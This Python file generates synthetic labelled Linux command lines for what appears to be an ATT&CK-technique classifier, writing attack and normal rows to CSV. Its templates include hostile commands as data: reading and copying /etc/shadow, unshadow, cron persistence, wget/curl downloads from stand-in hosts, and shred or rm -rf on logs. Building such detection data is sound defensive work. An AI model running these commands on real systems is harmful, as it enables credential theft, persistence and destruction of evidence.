"""Made-up labelled commands: a few programs a technique, arguments that vary. No row is from anybody's data."""

from pathlib import Path

from ttpline.domain.labelled import LabelledCommand

TEMPLATES = {
    "T1003.008": ["cat /etc/shadow {w}", "unshadow passwd.{w} shadow.{w}", "cp /etc/shadow {w}.bak"],
    "T1053.003": ["crontab -l | tee {w}", "echo '* * * * * {w}' | crontab -", "crontab {w}.cron"],
    "T1082": ["uname -a > {w}", "lsb_release -a {w}", "hostnamectl status {w}"],
    "T1105": ["wget -O {w} http://192.0.2.7/x", "curl -o {w} http://example.com/x", "scp {w}@192.0.2.7:{w} ."],
    "T1070.004": ["shred -u {w}.log", "rm -rf {w}.log", "find . -name {w} -delete"],
    "T1018": ["arp -a {w}", "ip neigh show {w}", "getent hosts {w}"],
}
NORMAL_TEMPLATES = ["git commit -m {w}", "make {w}", "vim {w}.py", "docker build -t {w} .", "pip install {w}", "ls {w}"]
SYLLABLES = ("ba", "ce", "di", "fo", "gu", "ha", "je", "ki")


def word(number: int) -> str:
    """A made-up word for each number, without digits (which near-duplicates ignore)."""
    parts = []
    for _ in range(4):
        number, rest = divmod(number, len(SYLLABLES))
        parts.append(SYLLABLES[rest])
    return "".join(parts)


def attack_rows(per_template: int, origin: str = "first", start: int = 0) -> list[LabelledCommand]:
    rows: list[LabelledCommand] = []
    for label, templates in TEMPLATES.items():
        for place, template in enumerate(templates):
            for item in range(per_template):
                number = start + len(rows)
                text = template.format(w=word(number))
                rows.append(LabelledCommand(text, label, f"{origin}-{label}-{place}-{item}", "linux", origin))
    return rows


def normal_rows(per_template: int, origin: str = "docs", start: int = 500) -> list[LabelledCommand]:
    texts = [template.format(w=word(start + item)) for template in NORMAL_TEMPLATES for item in range(per_template)]
    return [LabelledCommand(text, "Normal", f"{origin}-{place}", "linux", origin) for place, text in enumerate(texts)]


def write_attack(path: Path, rows: list[LabelledCommand]) -> Path:
    lines = ["command,technique,subtechnique,platform,source,group,license"]
    lines += [
        f'"{row.command_line}",{row.label[:5]},{row.label},{row.platform},{row.origin},{row.group},MIT' for row in rows
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def write_normal(path: Path, rows: list[LabelledCommand]) -> Path:
    lines = ["command,platform,source,source_ref,license"]
    lines += [f'"{row.command_line}",{row.platform},{row.origin},{row.group},MIT' for row in rows]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path
